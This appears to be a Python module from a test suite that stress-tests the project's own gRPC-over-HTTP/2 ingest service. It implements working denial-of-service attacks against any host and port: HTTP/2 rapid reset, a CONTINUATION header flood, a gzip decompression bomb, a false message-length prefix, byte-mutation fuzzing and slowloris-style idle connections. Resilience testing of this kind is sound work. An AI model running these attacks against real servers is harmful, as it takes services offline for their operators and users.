"""What strangers do to the port, each a function of a connection's number.

`python -m hostile.attacks NAME HOST PORT CONNECTIONS` deals one from a process of its own, and prints its blows.

They speak HTTP/2 by themselves (h2, raw frames), since a well-behaved client's library would not do it.
"""

from __future__ import annotations

import asyncio
import gzip
import random
import struct
import sys
from collections.abc import Awaitable, Callable
from functools import cache

import h2.config
import h2.connection
import hpack

AT_ONCE = 50
STREAMS_A_CONNECTION = 500
SILENT_S = 15.0  # longer than the service waits for a handshake or an Open
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/headrace.v1.IngestService/Ingest"),
    (":authority", "headrace"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]

Attack = Callable[[str, int, int], Awaitable[int]]
"""Attacks a host's port from one connection, given its number; returns how many blows it dealt."""


def greeting(*extra: tuple[str, str]) -> tuple[h2.connection.H2Connection, bytes]:
    """A connection with an Ingest call begun on it, and its bytes."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    connection.send_headers(1, [*HEADERS, *extra])
    return connection, connection.data_to_send()


async def say(host: str, port: int, chunks: list[bytes], listen_s: float) -> None:
    """Connect, say it all, listen a while or to the end, and go without a word."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        for chunk in chunks:
            writer.write(chunk)
            await writer.drain()
        async with asyncio.timeout(listen_s):
            while await reader.read(65_536):
                pass
    except (OSError, TimeoutError):
        pass
    finally:
        writer.transport.abort()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


async def mutated(host: str, port: int, number: int) -> int:
    """A connection in which some bytes are not what they should be."""
    chance = random.Random(number)
    connection, begun = greeting()
    connection.send_data(1, b"\0" + struct.pack(">I", 40) + b"\x0a\x26\x0a\x24" + b"0" * 36)
    said = bytearray(begun + connection.data_to_send())
    for _ in range(chance.randint(1, 8)):
        said[chance.randrange(len(said))] = chance.randrange(256)
    await say(host, port, [bytes(said)], 0.05)
    return 1


async def rapid_reset(host: str, port: int, number: int) -> int:
    """Streams that are begun and reset at once."""
    encoder = hpack.Encoder()
    pairs = [
        frame(1, 4, stream, encoder.encode(HEADERS)) + frame(3, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 2 * STREAMS_A_CONNECTION, 2)
    ]
    await say(host, port, [PREFACE + frame(4, 0, 0) + b"".join(pairs)], 0.3)
    return STREAMS_A_CONNECTION


async def header_flood(host: str, port: int, number: int) -> int:
    """A megabyte of headers in frames that never end."""
    encoder = hpack.Encoder()
    block = encoder.encode(HEADERS)
    more = [b"".join(b"\x00\x04" + b"x%03d" % n + b"\x7f\x09" + b"v" * 136 for n in range(100)) for _ in range(70)]
    frames = [frame(9, 0, 1, each) for each in more]
    await say(host, port, [PREFACE + frame(4, 0, 0) + frame(1, 0, 1, block), *frames], 0.3)
    return 1


@cache
def packed_bomb() -> bytes:
    """40 MiB of zeros, which fit three frames."""
    return gzip.compress(bytes(40 << 20))


async def gzip_bomb(host: str, port: int, number: int) -> int:
    """A message of 40 KiB that is 40 MiB when it is unpacked."""
    bomb = packed_bomb()
    _, begun = greeting(("grpc-encoding", "gzip"))
    data = b"\1" + struct.pack(">I", len(bomb)) + bomb
    frames = [frame(0, 0, 1, data[start : start + 16_384]) for start in range(0, len(data), 16_384)]
    await say(host, port, [begun, *frames], 0.2)  # together they fit the window that nobody widens
    return 1


async def lying_length(host: str, port: int, number: int) -> int:
    """A message that says it has four gigabytes, and begins."""
    _, begun = greeting()
    await say(host, port, [begun, frame(0, 0, 1, b"\0\xff\xff\xff\xff" + b"x" * 16_000)], 0.2)
    return 1


async def slow_handshake(host: str, port: int, number: int) -> int:
    """A connection that says nothing."""
    await say(host, port, [], SILENT_S)
    return 1


async def never_opened(host: str, port: int, number: int) -> int:
    """A call that sends no Open."""
    await say(host, port, [greeting()[1]], SILENT_S)
    return 1


ATTACKS: dict[str, tuple[Attack, int, int]] = {
    "mutated": (mutated, 10_000, AT_ONCE),
    "rapid_reset": (rapid_reset, 200, 4),
    "header_flood": (header_flood, 200, 10),
    "gzip_bomb": (gzip_bomb, 200, 4),
    "lying_length": (lying_length, 1_000, AT_ONCE),
    "slow_handshake": (slow_handshake, 1_000, 1_000),
    "never_opened": (never_opened, 1_000, 1_000),
}
"""Each attack, how many connections its full form makes, and how many of them at once."""


async def attack(name: str, host: str, port: int, connections: int) -> int:
    """Deal an attack; returns the number of blows."""
    deal, _, at_once = ATTACKS[name]
    turns = asyncio.Semaphore(at_once)

    async def one(number: int) -> int:
        async with turns:
            try:
                return await deal(host, port, number)
            except OSError:
                return 0

    return sum(await asyncio.gather(*(one(number) for number in range(connections))))


if __name__ == "__main__":
    print(asyncio.run(attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))))
